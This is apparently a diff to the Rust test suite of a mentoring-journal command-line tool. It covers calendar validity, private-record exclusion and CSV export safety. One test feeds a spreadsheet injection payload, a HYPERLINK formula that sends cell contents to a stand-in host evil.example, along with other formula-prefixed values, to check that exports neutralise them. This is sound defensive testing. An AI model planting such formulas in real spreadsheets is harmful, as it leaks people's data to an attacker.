@@ -491,6 +491,9 @@ impl Journalled {
         for b in build {
             b(&store);
         }
+        // Every record last modified at one moment, so the calendar's SEQUENCE numbers (the
+        // records' revisions) are the same on every run.
+        set_mtimes(store.root(), FIXED_MTIME);
         let journal = Core::open(store.clone(), today());
         assert!(journal.problems().is_empty(), "{:?}", journal.problems());
         Journalled {
@@ -510,7 +513,31 @@ impl Journalled {
         } else {
             Audience::Owner
         });
-        Export::new(&r, r.partner(id).unwrap())
+        let mut x = Export::new(&r, r.partner(id).unwrap());
+        // As the command stamps an export when today is pinned (MENTORLOG_TODAY).
+        x.stamp = today().and_time(NaiveTime::MIN).and_utc();
+        x
+    }
+}
+
+/// 2026-11-20T10:00:00Z, seconds after the Unix epoch.
+const FIXED_MTIME: u64 = 1_795_168_800;
+
+/// Set the modification time of every file under `dir` to `secs` after the Unix epoch.
+fn set_mtimes(dir: &Path, secs: u64) {
+    let t = std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs);
+    for e in fs::read_dir(dir).unwrap() {
+        let p = e.unwrap().path();
+        if p.is_dir() {
+            set_mtimes(&p, secs);
+        } else {
+            fs::File::options()
+                .write(true)
+                .open(&p)
+                .unwrap()
+                .set_modified(t)
+                .unwrap();
+        }
     }
 }
 
@@ -701,6 +728,10 @@ fn html_escape_handles_script_and_ampersand() {
 // ---------------------------------------------------------------- CSV read back
 
 fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    // The file starts with a UTF-8 byte-order mark, for spreadsheets.
+    let text = text
+        .strip_prefix(export::CSV_BOM)
+        .expect("a CSV export starts with a byte-order mark");
     let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
     let headers = r.headers().unwrap().iter().map(String::from).collect();
     let rows = r
@@ -772,6 +803,86 @@ fn csv_reads_back_with_commas_quotes_and_newlines_intact() {
     assert_eq!(rubric[4], "2");
 }
 
+#[test]
+fn csv_is_safe_to_open_in_a_spreadsheet_and_says_it_is_utf8() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("j");
+    ml(&dir)
+        .args(["partner", "add", "Zoé Café"])
+        .assert()
+        .success();
+    ml(&dir)
+        .args([
+            "log",
+            "--with",
+            "Zoé Café",
+            "--focus",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "--action=-1+1",
+            "--",
+            "+SUM(1;2) and a café ☕",
+        ])
+        .assert()
+        .success();
+    ml(&dir)
+        .args(["goal", "add", "--with", "Zoé Café", "--", "@SUM(A1)"])
+        .assert()
+        .success();
+    let bytes = |table: &str, extra: &[&str]| {
+        let mut c = ml(&dir);
+        c.args(["export", "csv", "--with", "Zoé Café", "--table", table])
+            .args(extra);
+        c.assert().success().get_output().stdout.clone()
+    };
+    for table in ["meetings", "goals", "ticks"] {
+        let with = bytes(table, &[]);
+        assert!(
+            with.starts_with(b"\xef\xbb\xbf"),
+            "{table}: a UTF-8 BOM first"
+        );
+        let without = bytes(table, &["--no-bom"]);
+        assert_eq!(
+            &with[3..],
+            &without[..],
+            "{table}: --no-bom leaves out the BOM only"
+        );
+        let (h, rows) = read_csv(&String::from_utf8(with).unwrap());
+        for cell in h.iter().chain(rows.iter().flatten()) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{table}: a live formula: {cell:?}"
+            );
+        }
+        if table == "meetings" {
+            let m = &rows[0];
+            assert_eq!(m[6], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+            assert_eq!(m[7], "'+SUM(1;2) and a café ☕");
+            assert!(m[9].starts_with("[ ] -1+1"), "{}", m[9]);
+        }
+        if table == "goals" {
+            assert_eq!(rows[0][3], "'@SUM(A1)");
+        }
+    }
+    // To a file too.
+    let file = tmp.path().join("m.csv");
+    ml(&dir)
+        .args([
+            "export",
+            "csv",
+            "--with",
+            "Zoé Café",
+            "--table",
+            "meetings",
+            "-o",
+        ])
+        .arg(&file)
+        .assert()
+        .success();
+    let text = fs::read(&file).unwrap();
+    assert!(text.starts_with(b"\xef\xbb\xbf"));
+    assert!(String::from_utf8(text).unwrap().contains("\"'=HYPERLINK("));
+}
+
 // ---------------------------------------------------------------- iCalendar read back
 
 fn events(cal: &Calendar) -> Vec<&icalendar::Event> {
@@ -782,6 +893,224 @@ fn events(cal: &Calendar) -> Vec<&icalendar::Event> {
             _ => None,
         })
         .collect()
+}
+
+/// RFC 5545 rules a strict parser holds a calendar to, beyond what icalendar's parser checks:
+/// every VEVENT has a UID, a UTC DTSTAMP and a SEQUENCE (an INTEGER, not negative); a DATE
+/// DTSTART has only a DATE DTEND, and a DURATION of whole days or weeks (3.8.2.5: "dur-day
+/// or dur-week"); a DATE-TIME DTSTART takes any duration.
+fn strict_rfc5545(text: &str) -> Result<(), String> {
+    let unfolded = text.replace("\r\n ", "");
+    let mut event: Option<Vec<(String, String)>> = None;
+    let mut seen = 0;
+    for line in unfolded.split("\r\n").filter(|l| !l.is_empty()) {
+        let (name, value) = line
+            .split_once(':')
+            .ok_or_else(|| format!("not a content line: {line:?}"))?;
+        match (name, &mut event) {
+            ("BEGIN", None) if value == "VEVENT" => event = Some(Vec::new()),
+            ("END", Some(props)) if value == "VEVENT" => {
+                seen += 1;
+                let get = |n: &str| {
+                    props
+                        .iter()
+                        .find(|(k, _)| k == n || k.starts_with(&format!("{n};")))
+                };
+                let uid = get("UID").ok_or("a VEVENT without a UID")?.1.clone();
+                let (start, _) = get("DTSTART").ok_or(format!("{uid}: no DTSTART"))?;
+                if start.contains("VALUE=DATE") && !start.contains("VALUE=DATE-TIME") {
+                    if let Some((_, d)) = get("DURATION") {
+                        let days_or_weeks = d
+                            .strip_prefix('P')
+                            .and_then(|r| r.strip_suffix(['D', 'W']))
+                            .is_some_and(|n| {
+                                !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit())
+                            });
+                        if !days_or_weeks {
+                            return Err(format!(
+                                "{uid}: DURATION:{d} on a DATE start (RFC 5545 3.8.2.5 allows \
+                                 only days or weeks)"
+                            ));
+                        }
+                    }
+                    if let Some((end, _)) = get("DTEND")
+                        && !end.contains("VALUE=DATE")
+                    {
+                        return Err(format!("{uid}: a DATE start with a DATE-TIME end"));
+                    }
+                }
+                let stamp = &get("DTSTAMP").ok_or(format!("{uid}: no DTSTAMP"))?.1;
+                let utc = stamp.len() == 16
+                    && stamp.ends_with('Z')
+                    && chrono::NaiveDateTime::parse_from_str(stamp, "%Y%m%dT%H%M%SZ").is_ok();
+                if !utc {
+                    return Err(format!("{uid}: DTSTAMP {stamp} is not a UTC date-time"));
+                }
+                let seq = &get("SEQUENCE").ok_or(format!("{uid}: no SEQUENCE"))?.1;
+                if seq.parse::<i32>().map_or(true, |n| n < 0) {
+                    return Err(format!("{uid}: SEQUENCE {seq} is not an INTEGER >= 0"));
+                }
+                event = None;
+            }
+            (_, Some(props)) => props.push((name.to_string(), value.to_string())),
+            _ => {}
+        }
+    }
+    if event.is_some() {
+        return Err("an unterminated VEVENT".into());
+    }
+    if seen == 0 {
+        return Err("no VEVENT".into());
+    }
+    Ok(())
+}
+
+/// The value of property `name` of the event `uid` (unfolded).
+fn event_prop(text: &str, uid: &str, name: &str) -> Option<String> {
+    let unfolded = text.replace("\r\n ", "");
+    let start = unfolded.find(&format!("UID:{uid}\r\n"))?;
+    let event = &unfolded[start..unfolded[start..].find("END:VEVENT")? + start];
+    event
+        .split("\r\n")
+        .find_map(|l| l.strip_prefix(&format!("{name}:")).map(String::from))
+}
+
+#[test]
+fn a_meeting_with_a_length_but_no_time_is_a_valid_date_event_and_edits_raise_its_sequence() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("j");
+    let ml_now = || {
+        // The real clock: DTSTAMP is the export's time.
+        let mut c = Command::new(BIN);
+        c.arg("--data-dir")
+            .arg(&dir)
+            .env_remove("MENTORLOG_TODAY")
+            .env_remove("MENTORLOG_DIR");
+        c
+    };
+    let id_of = |out: &[u8]| {
+        let s = String::from_utf8_lossy(out);
+        let at = s.find("(id ").unwrap() + 4;
+        s[at..at + s[at..].find(')').unwrap()].to_string()
+    };
+    ml_now()
+        .args(["partner", "add", "Sam Lee"])
+        .assert()
+        .success();
+    let a = ml_now()
+        .args([
+            "log",
+            "--with",
+            "sam",
+            "--duration",
+            "45",
+            "A talk in the corridor",
+        ])
+        .assert()
+        .success();
+    let untimed = id_of(&a.get_output().stdout);
+    let a = ml_now()
+        .args([
+            "log",
+            "--with",
+            "sam",
+            "--time",
+            "10:00",
+            "--duration",
+            "30",
+            "Timed",
+        ])
+        .assert()
+        .success();
+    let timed = id_of(&a.get_output().stdout);
+    // Both saved a while ago.
+    set_mtimes(&dir, FIXED_MTIME);
+    let ics = || {
+        let a = ml_now()
+            .args(["export", "ics", "--with", "sam"])
+            .assert()
+            .success();
+        String::from_utf8(a.get_output().stdout.clone()).unwrap()
+    };
+    let before = chrono::Utc::now() - chrono::Duration::seconds(2);
+    let first = ics();
+    strict_rfc5545(&first).unwrap();
+    let cal = Calendar::from_str(&first).unwrap();
+    assert_eq!(events(&cal).len(), 2);
+    let uid = |id: &str| format!("{id}@mentorlog");
+    assert_eq!(event_prop(&first, &uid(&untimed), "DURATION"), None);
+    assert_eq!(
+        event_prop(&first, &uid(&timed), "DURATION").as_deref(),
+        Some("PT30M")
+    );
+    // DTSTAMP: the export's time, in UTC.
+    let stamp = event_prop(&first, &uid(&timed), "DTSTAMP").unwrap();
+    let stamp = chrono::NaiveDateTime::parse_from_str(&stamp, "%Y%m%dT%H%M%SZ")
+        .unwrap()
+        .and_utc();
+    assert!(
+        stamp >= before && stamp <= chrono::Utc::now() + chrono::Duration::seconds(2),
+        "{stamp}"
+    );
+    // SEQUENCE: the same for an unchanged record, higher once it is edited.
+    let seq = |text: &str, id: &str| -> i32 {
+        event_prop(text, &uid(id), "SEQUENCE")
+            .unwrap()
+            .parse()
+            .unwrap()
+    };
+    let again = ics();
+    assert_eq!(seq(&again, &untimed), seq(&first, &untimed));
+    assert_eq!(seq(&again, &timed), seq(&first, &timed));
+    // Ticking with the meeting as evidence edits the meeting (it lists the item).
+    ml_now()
+        .args([
+            "tick",
+            "--with",
+            "sam",
+            "curee/mentor-open-questions",
+            "--meeting",
+            &untimed,
+        ])
+        .assert()
+        .success();
+    let edited = ics();
+    strict_rfc5545(&edited).unwrap();
+    assert!(
+        seq(&edited, &untimed) > seq(&first, &untimed),
+        "{} then {}",
+        seq(&first, &untimed),
+        seq(&edited, &untimed)
+    );
+    assert_eq!(seq(&edited, &timed), seq(&first, &timed));
+}
+
+#[test]
+fn the_strict_check_refuses_minutes_on_a_date() {
+    let event = |start: &str, duration: &str| {
+        format!(
+            "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:x\r\nDTSTAMP:20261123T101500Z\r\n\
+             SEQUENCE:3\r\n{start}\r\n{duration}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+        )
+    };
+    let e = strict_rfc5545(&event("DTSTART;VALUE=DATE:20260203", "DURATION:PT45M")).unwrap_err();
+    assert!(e.contains("3.8.2.5"), "{e}");
+    strict_rfc5545(&event("DTSTART;VALUE=DATE:20260203", "DURATION:P1D")).unwrap();
+    strict_rfc5545(&event("DTSTART:20260203T153000", "DURATION:PT45M")).unwrap();
+}
+
+#[test]
+fn the_calendars_of_the_test_journal_and_the_demo_are_strictly_valid() {
+    let j = Journalled::new(&[sam]);
+    strict_rfc5545(&export::ics(&j.export("sam-lee", false))).unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("j");
+    ml(&dir).arg("demo").assert().success();
+    for p in ["sam", "priya", "alex"] {
+        let text = stdout_of(&dir, &["export", "ics", "--with", p, "--include-private"]);
+        strict_rfc5545(&text).unwrap_or_else(|e| panic!("{p}: {e}"));
+        Calendar::from_str(&text).unwrap();
+    }
 }
 
 #[test]
@@ -1098,7 +1427,7 @@ fn review_mode_leaves_private_records_out_of_every_export() {
         }
     }
     let md = export::portfolio(&review, PortfolioFormat::Markdown);
-    assert!(md.contains("Review copy: private meetings and private reflections are left out."));
+    assert!(md.contains("Private meetings and private reflections are left out of this copy."));
     // The tick whose only meeting was private keeps its other evidence.
     assert!(md.contains("  - evidence: Seen in the check-in"), "{md}");
 }
@@ -1124,30 +1453,48 @@ fn stdout_of(dir: &Path, args: &[&str]) -> String {
 #[test]
 fn the_command_prints_each_export_as_the_library_makes_it() {
     let j = Journalled::new(&[sam]);
-    let x = j.export("sam-lee", false);
-    let cases: Vec<(Vec<&str>, String)> = vec![
+    // By default an export is made for a reader who does not see private records; with
+    // --include-private, for the owner.
+    for (extra, x) in [
+        (None, j.export("sam-lee", true)),
+        (Some("--include-private"), j.export("sam-lee", false)),
+    ] {
+        let mut cases = export_cases(&x);
+        if extra.is_some() {
+            // A badge is never made with private records.
+            cases.retain(|(args, _)| args[1] != "badge");
+        }
+        for (mut args, want) in cases {
+            args.extend(extra);
+            assert_eq!(stdout_of(j.dir(), &args), want, "{args:?}");
+        }
+    }
+}
+
+fn export_cases<'a>(x: &Export) -> Vec<(Vec<&'a str>, String)> {
+    vec![
         (
             vec!["export", "portfolio", "--with", "sam"],
-            export::portfolio(&x, PortfolioFormat::Markdown),
+            export::portfolio(x, PortfolioFormat::Markdown),
         ),
         (
             vec!["export", "portfolio", "--with", "sam", "--format", "html"],
-            export::portfolio(&x, PortfolioFormat::Html),
+            export::portfolio(x, PortfolioFormat::Html),
         ),
         (
             vec!["export", "csv", "--with", "sam"],
-            export::csv(&x, Table::Goals),
+            export::csv(x, Table::Goals),
         ),
         (
             vec!["export", "csv", "--with", "sam", "--table", "meetings"],
-            export::csv(&x, Table::Meetings),
+            export::csv(x, Table::Meetings),
         ),
         (
             vec!["export", "csv", "--with", "sam", "--table", "ticks"],
-            export::csv(&x, Table::Ticks),
+            export::csv(x, Table::Ticks),
         ),
-        (vec!["export", "ics", "--with", "sam"], export::ics(&x)),
-        (vec!["export", "json", "--with", "sam"], export::json(&x)),
+        (vec!["export", "ics", "--with", "sam"], export::ics(x)),
+        (vec!["export", "json", "--with", "sam"], export::json(x)),
         (
             vec![
                 "export",
@@ -1157,12 +1504,9 @@ fn the_command_prints_each_export_as_the_library_makes_it() {
                 "--stage",
                 "induction-stages/developing",
             ],
-            export::badge(&x, "induction-stages/developing").unwrap(),
+            export::badge(x, "induction-stages/developing").unwrap(),
         ),
-    ];
-    for (args, want) in cases {
-        assert_eq!(stdout_of(j.dir(), &args), want, "{args:?}");
-    }
+    ]
 }
 
 #[test]
@@ -1184,12 +1528,16 @@ fn output_file_is_private_and_the_format_follows_its_name() {
     );
     assert_eq!(
         said,
-        format!("Wrote the portfolio of Sam Lee to {}\n", html.display())
+        format!(
+            "Wrote the portfolio of Sam Lee to {} (1 private meeting and 1 private reflection \
+             left out; --include-private puts them in)\n",
+            html.display()
+        )
     );
     let text = fs::read_to_string(&html).unwrap();
     assert_eq!(
         text,
-        export::portfolio(&j.export("sam-lee", false), PortfolioFormat::Html)
+        export::portfolio(&j.export("sam-lee", true), PortfolioFormat::Html)
     );
     let mode = fs::metadata(&html).unwrap().permissions().mode() & 0o777;
     assert_eq!(mode, 0o600, "{mode:o}");
@@ -1298,9 +1646,146 @@ fn the_command_in_review_mode_leaves_the_private_meeting_out() {
             assert!(!text.contains(word), "{word} in {args:?} --review");
         }
     }
-    // And without it, the notes are there.
-    let text = stdout_of(j.dir(), &["export", "ics", "--with", "sam"]);
+    // And with --include-private (without --review), the notes are there.
+    let text = stdout_of(
+        j.dir(),
+        &["export", "ics", "--with", "sam", "--include-private"],
+    );
     assert!(text.contains("PRIVATE-NOTE"));
+}
+
+#[test]
+fn every_export_leaves_private_records_out_unless_asked() {
+    let j = Journalled::new(&[sam]);
+    let kinds = [
+        vec!["export", "portfolio", "--with", "sam"],
+        vec!["export", "portfolio", "--with", "sam", "--format", "html"],
+        vec!["export", "csv", "--with", "sam", "--table", "meetings"],
+        vec!["export", "csv", "--with", "sam", "--table", "ticks"],
+        vec!["export", "csv", "--with", "sam", "--table", "goals"],
+        vec!["export", "ics", "--with", "sam"],
+        vec!["export", "json", "--with", "sam"],
+        vec![
+            "export",
+            "badge",
+            "--with",
+            "sam",
+            "--stage",
+            "induction-stages/developing",
+        ],
+    ];
+    for args in &kinds {
+        let text = stdout_of(j.dir(), args);
+        for word in PRIVATE_WORDS {
+            assert!(!text.contains(word), "{word} in {args:?} without a flag");
+        }
+    }
+    // The owner asks for them by name.
+    for (args, word) in [
+        (&kinds[0], "PRIVATE-NOTE"),
+        (&kinds[0], "PRIVATE-REFLECTION"),
+        (&kinds[1], "PRIVATE-NOTE"),
+        (&kinds[2], "PRIVATE-NOTE"),
+        (&kinds[5], "PRIVATE-NOTE"),
+        (&kinds[6], "PRIVATE-REFLECTION"),
+    ] {
+        let mut args = args.clone();
+        args.push("--include-private");
+        assert!(stdout_of(j.dir(), &args).contains(word), "{word}: {args:?}");
+    }
+    // A badge never cites them, and --include-private contradicts --review.
+    for args in [
+        vec!["export", "badge", "--with", "sam", "--include-private"],
+        vec![
+            "--review",
+            "export",
+            "json",
+            "--with",
+            "sam",
+            "--include-private",
+        ],
+    ] {
+        let a = ml(j.dir()).args(&args).assert().failure();
+        let err = String::from_utf8(a.get_output().stderr.clone()).unwrap();
+        assert!(err.contains("--include-private"), "{args:?}: {err}");
+        assert!(a.get_output().stdout.is_empty());
+    }
+    // Written to a file, the command says how many were left out, except in review mode
+    // (a screen shown to someone), where it does not count them.
+    let file = j.dir().parent().unwrap().join("p.md");
+    let file = file.to_str().unwrap();
+    let said = stdout_of(
+        j.dir(),
+        &["export", "portfolio", "--with", "sam", "-o", file],
+    );
+    assert!(
+        said.contains("(1 private meeting and 1 private reflection left out"),
+        "{said}"
+    );
+    let said = stdout_of(
+        j.dir(),
+        &[
+            "--review",
+            "export",
+            "portfolio",
+            "--with",
+            "sam",
+            "-o",
+            file,
+        ],
+    );
+    assert!(
+        said.contains("(review copy: private meetings and reflections left out)"),
+        "{said}"
+    );
+    assert!(!said.contains("1 private"), "{said}");
+    // The help says so.
+    let help = stdout_of(j.dir(), &["export", "--help"]);
+    assert!(help.contains("--include-private"), "{help}");
+    assert!(help.contains("left out of every export"), "{help}");
+}
+
+#[test]
+fn the_demos_private_meeting_reaches_no_export_and_no_badge() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("j");
+    ml(&dir).arg("demo").assert().success();
+    // The demo's one private meeting (its file is named DATE-ID.ron).
+    let private = "agreed to keep this between us";
+    let file = fs::read_dir(dir.join("partnerships/sam-lee/meetings"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| fs::read_to_string(p).unwrap().contains("private: true"))
+        .expect("the demo has a private meeting");
+    assert!(fs::read_to_string(&file).unwrap().contains(private));
+    let stem = file.file_stem().unwrap().to_str().unwrap().to_string();
+    let (date, id) = (&stem[..10], &stem[11..]);
+    for args in [
+        vec!["export", "portfolio", "--with", "sam"],
+        vec!["export", "portfolio", "--with", "sam", "--format", "html"],
+        vec!["export", "csv", "--with", "sam", "--table", "meetings"],
+        vec!["export", "csv", "--with", "sam", "--table", "ticks"],
+        vec!["export", "ics", "--with", "sam"],
+        vec!["export", "json", "--with", "sam"],
+        vec!["export", "badge", "--with", "sam"],
+        vec![
+            "export",
+            "badge",
+            "--with",
+            "sam",
+            "--stage",
+            "ljmu/developing",
+        ],
+    ] {
+        let text = stdout_of(&dir, &args);
+        assert!(!text.contains(private), "{args:?}");
+        assert!(!text.contains(id), "{args:?}");
+        assert!(!text.contains(&format!("meeting of {date}")), "{args:?}");
+    }
+    let mut args = vec!["export", "ics", "--with", "sam", "--include-private"];
+    assert!(stdout_of(&dir, &args).contains(id));
+    args[1] = "json";
+    assert!(stdout_of(&dir, &args).contains(private));
 }
 
 #[test]
